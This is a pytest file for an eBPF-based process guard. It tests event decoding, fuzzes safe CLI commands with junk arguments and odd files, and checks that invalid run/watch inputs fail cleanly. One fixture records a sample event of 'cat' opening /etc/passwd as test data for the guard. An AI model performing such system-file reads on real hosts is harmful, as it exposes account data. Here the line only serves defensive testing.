    """What poll() does with a batch: bad records are counted, the rest still decoded."""
    RUNS["decode_loop"] += 1
    sensor = Sensor()
    sensor._raw = list(records)
    events = sensor._take(None)
    assert all(isinstance(e, Event) for e in events)
    assert len(events) + sensor.stats.bad <= len(records)


def test_decode_counts_what_it_drops() -> None:
    sensor = Sensor()
    good = _HDR.pack(1, 2, 3, 0, 10, 10, 1, 0, _KIND[Kind.EXIT], 0, 0, 0, 0, 0, b"sh".ljust(16, b"\0"))
    exec_hdr = _HDR.pack(2, 2, 3, 0, 10, 10, 1, 0, _KIND[Kind.EXEC], 0, 0, 0, 0, 1, b"sh".ljust(16, b"\0"))
    huge_argc = exec_hdr + b"\0" * (RawExecEvent.argc.offset - _HDR.size) + struct.pack("<II", 2**32 - 1, 0)
    sensor._raw = [b"short", good, huge_argc, good[:-1]]
    events = sensor._take(None)
    assert [e.kind for e in events] == [Kind.EXIT]
    assert sensor.stats.bad == 3
    with pytest.raises(DecodeError):
        sensor.decode(huge_argc)


# ------------------------------------------------------------------------------- command line

# Commands that only read (or write where told, under tmp): safe to fuzz as root.
SAFE_COMMANDS = ("check", "verify", "report", "replay", "approvals")


def _options(command: str) -> list[str]:
    params = main.commands[command].params
    return sorted({"--help", *(o for p in params for o in [*p.opts, *p.secondary_opts] if o.startswith("-"))})


_JUNK = ["--help", "-h", "--version", "--bogus", "-x", "--", "-", "", " ", "--format", "--mode", "audit",
         "pdf", "text", "json", "html", "nan", "inf", "-inf", "-1", "0", "1e309", "1.5",
         "99999999999999999999", "1e-300", "--compare", "--policy", "--out", "--last-hours", "--all",
         "é", "\udcff", "x" * 300]  # fmt: skip


_CLI_FILES = ("ok.yaml", "bad.yaml", "default.yaml", "bin", "empty", "log.jsonl", "rec", "dir", "missing",
              "fifo", "zero", "bad\udcffname")


def _cli_files(tmp: Path) -> dict[str, Path]:
    """Inputs for the commands; rewritten for every example (a `report --out` may overwrite one)."""
    files = {
        "ok.yaml": b"version: 1\n",
        "bad.yaml": b"version: 2\nmode: x\n",
        "bin": bytes(range(256)),
        "empty": b"",
        "log.jsonl": b'{"seq": 1, "hash": "x"}\n',
        "default.yaml": (ROOT / "policies" / "default.yaml").read_bytes(),  # a copy: `--out` writes
    }
    for name, data in files.items():
        (tmp / name).write_bytes(data)
    header = {"type": "recording", "format": 1, "policy": str(tmp / "ok.yaml"), "policy_sha256": "",
              "workspace": "/w", "mode": "enforce", "homes": {}, "started": 0.0}  # fmt: skip
    ev = Event(Kind.OPEN, 1, 2, 2, 1, 0, "cat", 1, 1, raw_path="/etc/passwd", path="/etc/passwd")
    (tmp / "rec").write_text(json.dumps(header) + "\n" + json.dumps(ev.to_dict()) + "\n")
    (tmp / "dir").mkdir(exist_ok=True)
    os.mkfifo(tmp / "fifo")  # opening it blocks until a writer comes: it must be refused
    (tmp / "bad\udcffname").write_bytes(b"not a log\n")  # a name that is not UTF-8
    paths = {name: tmp / name for name in _CLI_FILES}
    paths["zero"] = Path("/dev/zero")  # reads forever: must be refused; nothing writes to it
    return paths


# Paths are drawn as "@name" and made absolute under the example's directory (or /dev/zero,
# which only `report --out` could write, and writing it is harmless); nothing else is absolute
# (no "/" in random text), so a `report --out` only ever writes there. NUL is left out: a real
# argv cannot hold one (and click's own os.stat raises ValueError on it).
_arguments = st.sampled_from(SAFE_COMMANDS).flatmap(
    lambda cmd: st.lists(
        st.one_of(
            st.sampled_from(_options(cmd)),
            st.sampled_from(_JUNK),
            st.sampled_from([f"@{n}" for n in _CLI_FILES]),
            st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\0/"), max_size=8),
        ),
        max_size=6,
    ).map(lambda args: [cmd, *args])
)  # fmt: skip


def check_invocation(args: list[str]) -> Any:
    result = CliRunner().invoke(main, args, catch_exceptions=True)
    assert result.exception is None or isinstance(result.exception, SystemExit), (args, result.exc_info)
    assert "Traceback" not in result.output, args
    return result


@fuzz(400)
@given(_arguments)
def test_cli_arguments(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]) -> None:
    RUNS["cli_args"] += 1
    here = Path(tempfile.mkdtemp(dir=tmp_path))  # fresh per example: nothing left by the last
    monkeypatch.chdir(here)  # a relative `--out x` lands here, not in the repository
    files = _cli_files(here)
    args = [str(files[a[1:]]) if a[1:] in files else a for a in args]
    assert not [a for a in args if a.startswith("/") and not a.startswith(str(here)) and a != "/dev/zero"]
    check_invocation(args)


@pytest.mark.parametrize("command", sorted(main.commands))
def test_help_everywhere(command: str) -> None:
    # Fixed argument lists only: `run`/`watch`/`kill`/`resume` act on the host given anything else.
    for args in ([command, "--help"], [command, "-h"]):
        result = check_invocation(args)
        assert result.exit_code == 0 and "Usage:" in result.output


# `run`/`watch`: hand-picked invalid inputs that cannot name a real cgroup or process. `watch`
# fails on them before any setup, so in-process; `run` in a subprocess: as root it sets up a
# cgroup, signal handlers and a watchdog before it loads the policy.
WATCH_INVALID = [
    ["watch"],
    ["watch", "--pid", "-5"],
    ["watch", "--pid", "0"],
    ["watch", "--pid", "nan"],
    ["watch", "--pid", "99999999999999999999"],
    ["watch", "--pid", "-5", "--cgroup", "/nonexistent-xyz"],
    ["watch", "--cgroup", "/nonexistent-xyz"],
    ["watch", "--cgroup", "/nonexistent-xyz", "--mode", "bogus"],
    ["watch", "--pid", "-5", "--log-max-mb", "nan"],
    ["watch", "--pid", "-5", "--bogus"],
    ["watch", "--pid", "-5", "--policy", "@bin"],
]
RUN_INVALID = [
    ["run"],
    ["run", "--mode", "bogus", "--", "/nonexistent-cmd-xyz"],
    ["run", "--log-max-mb", "-1", "--", "/nonexistent-cmd-xyz"],
    ["run", "--log-max-mb", "inf", "--", "/nonexistent-cmd-xyz"],
    ["run", "--policy", "@bin", "--", "/nonexistent-cmd-xyz"],
    ["run", "--policy", "@dir", "--", "/nonexistent-cmd-xyz"],
]


@pytest.mark.parametrize("args", WATCH_INVALID, ids=" ".join)
def test_watch_invalid_arguments(tmp_path: Path, args: list[str]) -> None:
    bad = tmp_path / "bin"
    bad.write_bytes(b"version: 1\n\x00\xff\xfe")
    result = check_invocation([str(bad) if a == "@bin" else a for a in args])
    assert result.exit_code in (1, 2, 3), result.output  # error, usage, refused for safety


@pytest.mark.parametrize("args", RUN_INVALID, ids=" ".join)
def test_run_invalid_arguments(tmp_path: Path, args: list[str]) -> None:
    bad = tmp_path / "bin"
    bad.write_bytes(b"version: 1\n\x00\xff\xfe")
    args = [str(bad) if a == "@bin" else str(tmp_path) if a == "@dir" else a for a in args]
    proc = subprocess.run([sys.executable, "-m", "ebpf_guard", *args], capture_output=True, text=True,
                          timeout=scaled(60), cwd=tmp_path)  # fmt: skip
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode in (1, 2, 3), proc.stderr
    if "--policy" in args and proc.returncode == 2:  # as root; otherwise 1: not root
        policy = args[args.index("--policy") + 1]
        assert proc.stderr.strip() in (
            f"{policy}:2: binary data (NUL byte): not a YAML policy",
            f"{policy}:0: cannot read policy: Is a directory",
        )


def test_replay_with_binary_policy(tmp_path: Path) -> None:
    files = _cli_files(tmp_path)
    bad = tmp_path / "bin.yaml"
    bad.write_bytes(b"version: 1\n\x00")
    for args in (["replay", str(files["rec"]), "--policy", str(bad)],
                 ["replay", str(files["rec"]), "--compare", str(bad), str(files["bin"])]):  # fmt: skip
        result = check_invocation(args)
        assert result.exit_code in (2, 4), result.output  # 4: the recording format moved on
        if result.exit_code == 2:
            assert result.stderr == f"{bad}:2: binary data (NUL byte): not a YAML policy\n"
